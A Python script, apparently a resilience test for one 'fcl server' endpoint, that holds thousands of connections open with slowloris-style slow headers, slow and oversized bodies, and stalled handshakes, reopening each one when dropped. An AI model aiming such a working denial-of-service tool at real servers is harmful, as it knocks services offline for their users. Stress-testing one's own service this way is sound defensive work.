"""Hostile connections without any key: hold as many as possible open, and open anew.

``python attack.py HOST:PORT --connections 2000 --seconds 60``. Each second it prints
how many are open, how many were opened so far, and how many the other side has ended.
"""

import argparse
import asyncio
import contextlib
import itertools
import ssl
import time
from collections import Counter
from collections.abc import Awaitable, Callable

HEAD = (
    b"POST /v1/fleet/push-object HTTP/1.1\r\nhost: x\r\n"
    b"content-type: application/protobuf\r\n"
)
Speak = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def silence(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Say nothing."""
    await reader.read()


async def slow_head(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Say one byte of a header each second."""
    writer.write(HEAD + b"x-long: ")
    while not reader.at_eof():
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(1)


async def slow_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Announce 60 MiB, and say one byte of them each second."""
    writer.write(HEAD + b"content-length: %d\r\n\r\n" % (60 * 2**20))
    while not reader.at_eof():
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(1)


async def large_body(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Send 60 MiB but the last byte, as fast as they are taken; then say nothing."""
    writer.write(HEAD + b"content-length: %d\r\n\r\n" % (60 * 2**20))
    for _ in range(60):
        writer.write(bytes(2**20 - 1))
        await writer.drain()
    await reader.read()


KINDS: dict[str, tuple[bool, Speak]] = {
    "handshake": (False, silence),
    "silence": (True, silence),
    "slow-head": (True, slow_head),
    "slow-body": (True, slow_body),
    "large-body": (True, large_body),
}
"""By name: whether the handshake is finished, and what is said then."""


class Attack:
    """Connections that are opened again whenever the other side ends them."""

    def __init__(self, place: tuple[str, int], addresses: int, *, tls: bool) -> None:
        """Attack a place from addresses 127.0.1.1 and following of this machine."""
        self.place = place
        self.addresses = addresses
        self.context = ssl.create_default_context() if tls else None
        if self.context is not None:
            self.context.check_hostname = False
            self.context.verify_mode = ssl.CERT_NONE
        self.seen: Counter[str] = Counter()

    async def hold(self, number: int, kind: str) -> None:
        """Keep one connection of a kind open, for ever."""
        finishes, speak = KINDS[kind]
        source = None
        if self.addresses:
            source = (f"127.0.1.{1 + number % self.addresses}", 0)
        while True:
            writer = None
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(
                        *self.place,
                        ssl=self.context if finishes else None,
                        local_addr=source,
                    ),
                    20,
                )
                self.seen["opened"] += 1
                self.seen["open"] += 1
                try:
                    await speak(reader, writer)
                finally:
                    self.seen["open"] -= 1
                self.seen["ended"] += 1
            except (OSError, TimeoutError, ssl.SSLError) as error:
                self.seen[type(error).__name__] += 1
            finally:
                if writer is not None:
                    writer.transport.abort()
            await asyncio.sleep(0.5)

    async def run(self, connections: int, kinds: list[str], seconds: float) -> None:
        """Hold so many connections for so long, and print what becomes of them."""
        pairs = zip(range(connections), itertools.cycle(kinds), strict=False)
        tasks = [asyncio.create_task(self.hold(n, kind)) for n, kind in pairs]
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            await asyncio.sleep(min(1.0, seconds))
            print(dict(self.seen), flush=True)
        for task in tasks:
            task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await asyncio.gather(*tasks)


def main() -> None:
    """Read the command line, and attack."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("place", help="HOST:PORT of fcl server")
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--kinds", default=",".join(KINDS.keys() - {"large-body"}))
    parser.add_argument(
        "--addresses",
        type=int,
        default=0,
        help="of this machine from which to come, up to 254; 0 for its usual one",
    )
    parser.add_argument("--insecure", action="store_true", help="without TLS")
    given = parser.parse_args()
    host, _, port = given.place.rpartition(":")
    attack = Attack((host, int(port)), given.addresses, tls=not given.insecure)
    kinds = sorted(given.kinds.split(","))
    asyncio.run(attack.run(given.connections, kinds, given.seconds))


if __name__ == "__main__":
    main()
